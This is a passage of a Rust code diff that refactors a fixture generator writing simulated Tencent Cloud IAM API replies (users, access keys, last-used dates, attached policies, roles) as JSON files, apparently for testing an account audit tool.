-        uin: 100_000_000_012,
-        name: "app-backend",
-        remark: "shop backend",
-        created: "2024-04-02 10:05:00",
-        key: Key::active("appBackend1", "2025-02-11 09:30:00", "2026-03-02 08:11:05"),
-        policies: &[(33, "QcloudCamFullAccess"), (34, "QcloudReadOnlyResources")],
-    },
-    User {
-        uin: 100_000_000_013,
-        name: "report-export",
-        remark: "monthly report",
-        created: "2024-05-20 15:00:00",
-        key: Key::active("reportExp", "2024-05-20 15:01:10", "2026-01-10 11:05:40"),
-        policies: &[(35, "QcloudFinanceReadOnly")],
-    },
-    User {
-        uin: 100_000_000_014,
-        name: "media-team",
-        remark: "pictures of the shop",
-        created: "2025-01-15 11:00:00",
-        key: Key::active("mediaTeam", "2025-01-15 11:00:30", "2026-02-27 16:40:00"),
-        policies: &[],
-    },
-    User {
-        uin: 100_000_000_015,
-        name: "fleet-sync",
-        remark: "multi-cloud manager",
-        created: "2025-06-03 09:00:00",
-        key: Key::active("fleetSync", "2025-06-03 09:00:20", "2026-02-28 09:15:00"),
-        policies: &[(36, "QcloudCVMReadOnlyAccess")],
-    },
-    User {
-        uin: 100_000_000_016,
-        name: "mobile-api",
-        remark: "",
-        created: "2026-02-25 10:00:00",
-        key: None,
-        policies: &[],
-    },
-    User {
-        uin: 100_000_000_017,
-        name: "old-contractor",
-        remark: "left in 2025",
-        created: "2024-07-01 09:00:00",
-        key: Some(Key {
-            end: "contractor",
-            status: "Inactive",
-            created: "2024-07-01 09:10:00",
-            used: None,
-        }),
-        policies: &[],
-    },
-    User {
-        uin: 100_000_000_021,
-        name: "ops-lead",
-        remark: "",
-        created: "2024-04-01 09:00:00",
-        key: None,
-        policies: &[(1, "AdministratorAccess")],
-    },
-    User {
-        uin: 100_000_000_022,
-        name: "dev-web",
-        remark: "",
-        created: "2024-08-12 09:00:00",
-        key: None,
-        policies: &[],
-    },
-    User {
-        uin: 100_000_000_023,
-        name: "finance-view",
-        remark: "",
-        created: "2024-09-02 09:00:00",
-        key: None,
-        policies: &[],
-    },
-];
-
-static ROOT_KEY: Option<Key> =
-    Key::active("rootOwner", "2024-03-28 12:00:00", "2026-02-24 10:20:00");
 
 /// Writes replies as the command line tool prints them.
 fn write_inventory(folder: &Path) {
     let write = |name: &str, reply: Value| write_json(&folder.join(format!("{name}.json")), &reply);
-    write(
-        "ListUsers",
-        json!({"Data": USERS.iter().map(user_entry).collect::<Vec<_>>(),
-        "RequestId": saved_id(1)}),
-    );
+    let all: Vec<User> = rows(USERS).map(User::of).collect();
+    let listed: Vec<Value> = all[1..].iter().map(user_entry).collect();
+    write("ListUsers", json!({"Data": listed, "RequestId": saved_id(1)}));
+    let owner = ACCOUNT.to_string();
     write(
         "GetUserAppId",
-        json!({"Uin": ACCOUNT, "OwnerUin": ACCOUNT, "AppId": APP_ID,
+        json!({"Uin": owner, "OwnerUin": owner, "AppId": APP_ID,
         "RequestId": saved_id(2)}),
     );
+    let with_key = || all.iter().filter(|user| !user.key.is_empty());
+    let used: Vec<Value> = with_key().map(last_use).collect();
+    write("GetSecurityLastUsed", json!({"SecretIdLastUsedRows": used, "RequestId": saved_id(3)}));
+    for user in with_key() {
+        write(&format!("ListAccessKeys-{}", user.uin), keys_of(user));
+    }
+    for user in all.iter().filter(|user| !user.policies.is_empty()) {
+        write(&format!("ListAttachedUserPolicies-{}", user.uin), policies_of(user));
+    }
     write("DescribeVpcs", vpcs());
     write("DescribeRoleList", roles());
-
-    let root: u64 = ACCOUNT.parse().expect("the account is a number");
-    let of_users = USERS.iter().map(|user| (user.uin, user.key.as_ref()));
-    let keys = std::iter::once((root, ROOT_KEY.as_ref())).chain(of_users);
-    let keys: Vec<(u64, &Key)> = keys.filter_map(|(uin, key)| Some((uin, key?))).collect();
-    for (uin, key) in &keys {
-        let entry = json!({"AccessKeyId": permanent_key(key.end), "Status": key.status,
-            "CreateTime": key.created, "Description": ""});
-        let reply = json!({"AccessKeys": [entry], "RequestId": saved_id(*uin)});
-        write(&format!("ListAccessKeys-{uin}"), reply);
-    }
-    let used: Vec<Value> = keys.iter().filter_map(|(_, key)| last_use(key)).collect();
-    write(
-        "GetSecurityLastUsed",
-        json!({"SecretIdLastUsedRows": used, "RequestId": saved_id(3)}),
-    );
-    for user in USERS.iter().filter(|user| !user.policies.is_empty()) {
-        write(
-            &format!("ListAttachedUserPolicies-{}", user.uin),
-            attached(user),
-        );
-    }
 }
 
 fn saved_id(number: u64) -> String {
@@ -1435,30 +707,33 @@ fn saved_id(number: u64) -> String {
 }
 
 fn user_entry(user: &User) -> Value {
-    json!({"Uin": user.uin, "Name": user.name, "Uid": user.uin % 1000 + 9_000_000,
-        "Remark": user.remark, "ConsoleLogin": u8::from(user.key.is_none()), "PhoneNum": "",
-        "CountryCode": "86", "Email": "", "CreateTime": user.created, "NickName": user.name})
+    json!({"Uin": user.uin, "Name": user.name, "Uid": user.uin % 1000 + 9_000_000, "Remark": "",
+        "ConsoleLogin": u8::from(user.key.is_empty()), "PhoneNum": "", "CountryCode": "86",
+        "Email": "", "CreateTime": user.created, "NickName": user.name})
 }
 
 /// The date is a day late, as it is in real replies; the time beside it is right.
-fn last_use(key: &Key) -> Option<Value> {
-    let parsed = chrono::NaiveDateTime::parse_from_str(key.used?, "%Y-%m-%d %H:%M:%S");
-    let at = parsed
-        .expect("written as date and time")
-        .and_utc()
-        .timestamp()
-        - OFFSET_SECONDS;
-    Some(json!({"SecretId": permanent_key(key.end),
-        "LastUsedDate": local(at + 86_400, "%Y-%m-%d"), "LastSecretUsedDate": at * 1000}))
+fn last_use(user: &User) -> Value {
+    let at = time(user.key_used);
+    json!({"SecretId": permanent_key(user.key), "LastUsedDate": local(at + 86_400, "%Y-%m-%d"),
+        "LastSecretUsedDate": at * 1000})
 }
 
-fn attached(user: &User) -> Value {
-    let entry = |(id, name): &(u32, &str)| {
-        json!({"PolicyId": id, "PolicyName": name, "AddTime": user.created, "CreateMode": 2,
-            "Remark": "", "OperateOwnerUin": ACCOUNT, "OperateUin": ACCOUNT, "OperateUinType": 0,
-            "PolicyType": "QCS", "Deactived": 0, "DeactivedDetail": []})
+fn keys_of(user: &User) -> Value {
+    let key = json!({"AccessKeyId": permanent_key(user.key), "Status": user.key_status,
+        "CreateTime": user.key_created, "Description": ""});
+    json!({"AccessKeys": [key], "RequestId": saved_id(user.uin)})
+}
+
+fn policies_of(user: &User) -> Value {
+    let entry = |policy: &str| {
+        let (id, name) = policy.split_once(':').expect("written as id:name");
+        json!({"PolicyId": number::<u32>(id), "PolicyName": name, "AddTime": user.created, "CreateMode": 2,
+            "Remark": "", "OperateOwnerUin": ACCOUNT.to_string(),
+            "OperateUin": ACCOUNT.to_string(), "OperateUinType": 0, "PolicyType": "QCS",
+            "Deactived": 0, "DeactivedDetail": []})
     };
-    let list: Vec<Value> = user.policies.iter().map(entry).collect();
+    let list: Vec<Value> = user.policies.split(',').map(entry).collect();
     json!({"List": list, "TotalNum": list.len(), "RequestId": saved_id(user.uin)})
 }
 
@@ -1471,9 +746,9 @@ fn vpcs() -> Value {
 fn roles() -> Value {
     let trust = json!({"version": "2.0", "statement": [{"action": "sts:AssumeRole",
         "effect": "allow", "principal": {"service": "ccs.qcloud.com"}}]});
-    json!({"List": [{"RoleId": TKE.uin, "RoleName": TKE.name, "PolicyDocument": trust.to_string(),
-        "Description": "used by the container service", "AddTime": "2024-04-03 11:00:00",
-        "UpdateTime": "2024-04-03 11:00:00", "ConsoleLogin": 0, "RoleType": "system",
-        "SessionDuration": 43200, "DeletionTaskId": null, "Tags": []}],
+    json!({"List": [{"RoleId": "4611686018400000001", "RoleName": "TKE_QCSRole",
+        "PolicyDocument": trust.to_string(), "Description": "used by the container service",
+        "AddTime": "2024-04-03 11:00:00", "UpdateTime": "2024-04-03 11:00:00", "ConsoleLogin": 0,
+        "RoleType": "system", "SessionDuration": 43200, "DeletionTaskId": null, "Tags": []}],
         "TotalNum": 1, "RequestId": saved_id(5)})
 }
